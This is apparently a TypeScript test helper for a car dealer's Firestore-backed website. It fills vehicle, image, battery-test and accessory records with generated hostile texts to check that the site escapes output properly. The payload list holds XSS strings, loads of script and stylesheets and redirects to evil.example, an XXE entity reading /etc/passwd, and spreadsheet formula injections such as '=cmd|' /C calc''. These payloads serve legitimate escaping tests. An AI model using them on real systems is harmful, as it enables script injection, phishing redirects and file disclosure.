import type { DocumentData, Firestore } from 'firebase-admin/firestore';
import { createRandom } from '#tools/demo/random-stock/random.ts';

/** Prefixes that would end the context of a text: attribute, element, script, comment, XML. */
const PREFIXES = [
  '',
  '"',
  "'",
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</template></astro-island>',
  '\\"',
  '\\u003c/script\\u003e',
  '\u0000',
  '\u2028',
  '&quot;&gt;',
  '{{',
  '${',
  '=',
  '+',
  '@',
  '\t',
  '\r\n',
] as const;

/** Texts that run or link elsewhere where they are not escaped; `trip` reports it to the test. */
const PAYLOADS = [
  '<script>trip()</script>',
  '<ScRiPt>trip()</sCrIpT>',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror=trip()>',
  '<img src="x" onerror="trip()"',
  '<svg onload=trip()>',
  '<svg><script>trip()</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=trip()>',
  '<iframe srcdoc="<script>parent.trip()</script>"></iframe>',
  '<iframe src="javascript:parent.trip()"></iframe>',
  '<a href="javascript:trip()">her</a>',
  'javascript:trip()',
  'data:text/html,<script>trip()</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<object data="javascript:trip()">',
  '<details open ontoggle=trip()>',
  '<input autofocus onfocus=trip()>',
  '<body onload=trip()>',
  '<!-- <img src=x onerror=trip()> -->',
  '<!--><script>trip()</script>',
  '<![CDATA[<script>trip()</script>]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ' onmouseover=trip() ',
  ' autofocus onfocus="trip()" x="',
  '");trip();("',
  "');trip();('",
  '`;trip();`',
  '}</script><script>trip()//',
  '{"@type":"Car"}</script><script>trip()</script>',
  '=HYPERLINK("https://evil.example")',
  '=cmd|" /C calc"!A0',
  '@SUM(1+1)*trip()',
  '%3Cscript%3Etrip()%3C/script%3E',
  '&lt;script&gt;trip()&lt;/script&gt;',
  '<\u0000script>trip()</script>',
  '＜script＞trip()＜/script＞',
] as const;

const SUFFIXES = ['', '"', "'", '<!--', '//', ' 🚗', '\\', '/*'] as const;

/** A generator of hostile texts, the same ones in every run. */
export interface HostileTexts {
  /** The next text, cut to `maxLength` characters. */
  next(maxLength: number): string;
  /** How many texts have been generated. */
  count(): number;
}

export function hostileTexts(seed: number): HostileTexts {
  const { pick } = createRandom(seed);
  let count = 0;
  return {
    next(maxLength) {
      // Every payload is used once before they are picked at random.
      const payload = PAYLOADS[count] ?? pick(PAYLOADS);
      count += 1;
      const text = pick(PREFIXES) + payload + pick(SUFFIXES);
      return text.slice(0, maxLength).toWellFormed();
    },
    count: () => count,
  };
}

/** Specifications of one vehicle; most texts are stored there, as they render fastest. */
const SPECS_PER_VEHICLE = 30;

/** Stores vehicles with hostile texts in every field that staff write, until `count` are stored. */
export async function storeHostileStock(
  firestore: Firestore,
  count: number,
): Promise<HostileTexts> {
  const texts = hostileTexts(8);
  for (let number = 0; texts.count() < count; number += 1) {
    const batch = firestore.batch();
    for (const [path, data] of hostileVehicle(number, texts)) batch.set(firestore.doc(path), data);
    await batch.commit();
  }
  return texts;
}

function hostileVehicle(number: number, { next }: HostileTexts): [string, DocumentData][] {
  const id = `bil-${number}`;
  const now = new Date();
  const bookkeeping = { created_at: now, updated_at: now, version: 1 };
  const image = (folder: string) => ({
    image_url: `/pictures/${folder}/${id}/1_0`,
    storage_path: `${folder}/${id}/1_0.jpg`,
    image_order: 0,
    image_state: 'ready',
    width: 1600,
    height: 900,
    widths: [480, 800],
    ...bookkeeping,
  });
  return [
    [
      `vehicles/${id}`,
      {
        // A few makes with many vehicles each, as in a real stock.
        make: number < 20 ? next(60) : `Mærke ${number % 20}`,
        model: next(100),
        variant: next(200),
        year: 2020,
        price: 100_000 + number,
        mileage: 1000,
        status: number % 7 === 3 ? 'sold' : 'available',
        sold_date: number % 7 === 3 ? now : null,
        fuel_type: 'electric',
        transmission: next(60),
        color: next(60),
        vin: next(40),
        stelnummer: next(40),
        battery_test_result: next(200),
        condition_notes: next(5000),
        damage_report: next(5000),
        walkaround_video_url: next(300),
        specs_equipment: Array.from({ length: SPECS_PER_VEHICLE }, () => next(200)),
        ...bookkeeping,
      },
    ],
    [
      `vehicle_images/${id}`,
      { vehicle_id: id, is_primary: true, caption: next(300), ...image('vehicle-images') },
    ],
    [
      `damage_images/${id}`,
      { vehicle_id: id, damage_description: next(1000), ...image('damage-images') },
    ],
    [
      `battery_test_results/${id}`,
      {
        vehicle_id: id,
        test_date: '2026-10-01',
        test_document_url: `/documents/battery-test-documents/${id}/1.pdf`,
        storage_path: `battery-test-documents/${id}/1.pdf`,
        test_notes: next(1000),
        ...bookkeeping,
      },
    ],
    [
      `accessories/${id}`,
      {
        name: next(120),
        category: number % 2 ? 'wheels' : 'parts',
        description: next(3000),
        price: 100,
        tire_size: next(60),
        brand: next(60),
        model: next(100),
        available: true,
        ...bookkeeping,
      },
    ],
    [
      `accessory_images/${id}`,
      { accessory_id: id, is_primary: true, caption: next(300), ...image('accessory-images') },
    ],
  ];
}
